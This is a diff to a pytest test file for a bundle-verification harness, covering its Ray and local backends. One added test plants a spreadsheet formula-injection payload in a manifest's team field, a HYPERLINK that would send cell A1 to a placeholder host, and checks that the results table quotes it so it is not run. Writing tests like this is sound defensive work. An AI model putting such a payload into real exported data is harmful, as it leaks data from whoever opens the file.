@@ -24,12 +24,12 @@ from pathlib import Path
 import pytest
 
 from harness.bundle.batch import read_ledger, verify_all
-from tests.bundle_helpers import copy_bundle
+from tests.bundle_helpers import copy_bundle, rehash, run_cli
 from tests.score_fixtures import tiny_config
 from tests.test_hostile_bundle import SCORING_YAML, as_team
 
 pytest_plugins = ["tests.bundle_fixtures"]  # demo_bundle: rendered once per session
-pytestmark = pytest.mark.skipif(
+needs_ray = pytest.mark.skipif(
     importlib.util.find_spec("ray") is None, reason="ray is not installed (pip install -e '.[cluster]')"
 )
 CLI_TIMEOUT = 240
@@ -93,6 +93,7 @@ def _verdict_bytes(bundle: Path) -> bytes:
     return _VERIFIED.sub(b"", raw)
 
 
+@needs_ray
 def test_ray_verdicts_equal_the_local_loops_byte_for_byte(tmp_path, demo_bundle, ray_cluster):
     from harness.bundle.ray_backend import verify_all_ray
 
@@ -105,7 +106,9 @@ def test_ray_verdicts_equal_the_local_loops_byte_for_byte(tmp_path, demo_bundle,
     local = verify_all(root, scoring=_scoring())
     local_bytes = {t: _verdict_bytes(b) for t, b in bundles.items()}
     local_ledger = read_ledger(root)
-    rows = verify_all_ray(root, scoring=_scoring(), force=True, workers=2)
+    # one worker with the session's 2 CPUs renders with 2 threads, as this process does: on the
+    # CPU the thread count changes pixels ("reproducible" instead of "exact"; docs/judging.md)
+    rows = verify_all_ray(root, scoring=_scoring(), force=True, workers=1)
 
     assert [r.bundle for r in rows] == [r.bundle for r in local]
     assert {t: _verdict_bytes(b) for t, b in bundles.items()} == local_bytes
@@ -120,8 +123,7 @@ def test_ray_verdicts_equal_the_local_loops_byte_for_byte(tmp_path, demo_bundle,
     verdicts = {r.bundle.name: r.verdict for r in rows}
     assert [verdicts[t]["verdict"] for t in "abd"] == ["pass", "pass", "fail"]
     assert verdicts["a"]["reproducibility"] == "exact" and verdicts["a"]["scored_pixels"] == "re-rendered"
-    assert len({r.worker for r in rows}) == 2  # both workers judged
-    assert all(r.worker.startswith("w") and r.seconds > 0 and r.attempts == 1 for r in rows)
+    assert all(r.worker.startswith("w0@") and r.seconds > 0 and r.attempts == 1 for r in rows)
 
     # unchanged bundles under the same settings are not judged again, by either backend
     again = verify_all_ray(root, scoring=_scoring())
@@ -129,6 +131,7 @@ def test_ray_verdicts_equal_the_local_loops_byte_for_byte(tmp_path, demo_bundle,
     assert [r.verdict["verdict"] for r in again] == ["pass", "pass", "fail"]
 
 
+@needs_ray
 def test_a_raising_and_a_hanging_bundle_are_failed_rows_and_the_worker_goes_on(
     tmp_path, demo_bundle, ray_cluster
 ):
@@ -172,6 +175,7 @@ def _kill_later(pid: int, delay: float, killed: list[int]) -> None:
     threading.Timer(delay, fire).start()
 
 
+@needs_ray
 def test_a_worker_killed_mid_bundle_is_restarted_and_the_bundle_retried_a_bounded_number_of_times(
     tmp_path, demo_bundle, ray_cluster
 ):
@@ -207,6 +211,7 @@ def test_a_worker_killed_mid_bundle_is_restarted_and_the_bundle_retried_a_bounde
     assert json.loads((bundles["a"] / "verdict.json").read_text())["verdict"] == "pass"
 
 
+@needs_ray
 def test_a_driver_killed_with_sigkill_is_rerun_and_skips_finished_bundles(tmp_path, demo_bundle):
     """The CLI starts its own private Ray (no --address); killed with SIGKILL after the first
     verdicts reach the ledger, it leaves a stray Ray temp folder. The rerun starts a fresh Ray,
@@ -261,6 +266,7 @@ def test_a_driver_killed_with_sigkill_is_rerun_and_skips_finished_bundles(tmp_pa
         shutil.rmtree(short, ignore_errors=True)
 
 
+@needs_ray
 def test_fractional_gpu_requests_share_the_gpus_ray_has(tmp_path, demo_bundle, ray_cluster):
     """4 workers at 0.5 GPU on a cluster with 2 (pretend) GPUs: each worker is given one GPU id
     through CUDA_VISIBLE_DEVICES, two per GPU; on this CPU machine they judge on the CPU."""
@@ -286,3 +292,32 @@ def test_fractional_gpu_requests_share_the_gpus_ray_has(tmp_path, demo_bundle, r
     # asking for more than the cluster has is one line at once, not a wait for ever
     with pytest.raises(HarnessError, match="need 3 GPUs; the Ray cluster has 2"):
         verify_all_ray(root, rerun=False, force=True, workers=3, gpus_per_worker=1)
+
+
+def test_the_local_loop_writes_the_results_table_and_bundle_text_cannot_become_a_formula(
+    tmp_path, demo_bundle, capsys
+):
+    """No Ray needed: the local backend writes the same table. A manifest's team is the team's
+    own text; in the table it is one line, and a spreadsheet formula is quoted, not run."""
+    from harness.bundle.results import RESULTS, read_results
+
+    root = tmp_path / "subs"
+    honest = _teams(demo_bundle, root, tmp_path, "a")["a"]
+    evil = as_team(copy_bundle(demo_bundle, tmp_path / "staging" / "e"), "e").rename(root / "e")
+    data = json.loads((evil / "manifest.json").read_text(encoding="utf-8"))
+    data["team"] = '=HYPERLINK("http://x.invalid/?"&A1,"ok")\n'
+    (evil / "manifest.json").write_text(json.dumps(data), encoding="utf-8")
+    rehash(evil)
+
+    assert run_cli(["verify", "--all", str(root), "--no-rerun", "--quiet"]) == 1
+    assert f"results table: {root / RESULTS}" in capsys.readouterr().out
+    table = read_results(root / RESULTS)
+    assert list(table["folder"]) == ["a", "e"] and list(table["verdict"]) == ["pass", "fail"]
+    assert list(table["worker"]) == ["local", "local"] and (table["seconds"] > 0).all()
+    assert table.loc[1, "team"] == '\'=HYPERLINK("http://x.invalid/?"&A1,"ok")\\n'
+    assert table.loc[1, "first_problem"].startswith("folder e holds the bundle of")
+    assert json.loads((honest / "verdict.json").read_text())["verdict"] == "pass"
+
+    # the flags of the Ray backend are refused without it, in one line
+    assert run_cli(["verify", "--all", str(root), "--workers", "2"]) == 2
+    assert capsys.readouterr().err.strip() == "harness: error: --workers: only with --backend ray"
